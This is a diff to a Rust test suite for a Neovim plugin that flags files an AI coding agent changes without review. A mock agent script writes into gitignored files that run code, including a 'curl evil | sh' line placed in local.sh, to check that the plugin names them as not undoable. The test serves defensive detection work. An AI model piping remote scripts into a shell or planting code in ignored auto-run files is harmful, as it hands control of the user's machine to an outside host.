@@ -14,7 +14,7 @@ const AGENT: &str = concat!(
     "write) until [ -e \"$GO\" ]; do sleep 0.05; done; echo changed > a.txt;; ",
     "now) echo changed > a.txt;; ",
     "spin) (until [ -e \"$GO\" ]; do printf .; sleep 0.1; done) & ;; ",
-    "ignored) echo 'x()' > node_modules/pkg/index.js; echo 'curl evil | sh' > local.sh; echo 'export X=1' > .envrc; echo 'os.exit()' > .nvim.lua;; ",
+    "ignored) echo 'x()' > node_modules/pkg/index.js; echo 'curl evil | sh' > local.sh; echo 'export X=1' > .envrc; echo 'os.exit()' > .nvim.lua; echo 'x' > x.zsh; echo 'y' > y.bash;; ",
     "task) echo half > b.txt; echo 'Proceed? [y/n]'; (while :; do printf .; sleep 0.1; done) & s=$!; read a; kill $s; echo rest > c.txt;; ",
     "esac; echo \"done:$l\"; done"
 );
@@ -187,7 +187,7 @@ fn prompt_then(nvim: &Nvim, line: &str, shown: &str) {
 #[test]
 fn ignored_files_an_agent_changes_are_counted_and_those_that_run_code_named_by_the_turns_check() {
     let nvim = neovim(0);
-    std::fs::write(nvim.cwd.join(".gitignore"), "local.sh\n.envrc\n.nvim.lua\n").unwrap();
+    std::fs::write(nvim.cwd.join(".gitignore"), "local.sh\n.envrc\n.nvim.lua\nx.zsh\ny.bash\n").unwrap();
     std::fs::create_dir_all(nvim.cwd.join("node_modules/pkg")).unwrap();
     std::fs::write(nvim.cwd.join("node_modules/pkg/index.js"), "ok()\n").unwrap();
     std::fs::write(nvim.cwd.join("local.sh"), "echo hi\n").unwrap();
@@ -197,10 +197,11 @@ fn ignored_files_an_agent_changes_are_counted_and_those_that_run_code_named_by_t
     nvim.wait_for("#_G.started == 2", PATIENCE);
     nvim.wait_for("require('pi-ide').status():find('changed without review') ~= nil", PATIENCE);
     let status = nvim.lua("return require('pi-ide').status()").as_str().unwrap().to_string();
-    assert!(status.contains("3 files changed without review (3 not undoable: .envrc, .nvim.lua, local.sh) and 1 ignored file"), "{status}");
-    // :PiIde changes lists the three; the undo leaves them (nothing of them was recorded).
+    // The first three named, the warning one line.
+    assert!(status.contains("5 files changed without review (5 not undoable: .envrc, .nvim.lua, local.sh +2 more) and 1 ignored file"), "{status}");
+    // :PiIde changes lists the five; the undo leaves them (nothing of them was recorded).
     nvim.command("PiIde changes").unwrap();
-    nvim.wait_for("#vim.fn.getqflist() == 3", PATIENCE);
+    nvim.wait_for("#vim.fn.getqflist() == 5", PATIENCE);
 }
 
 #[test]
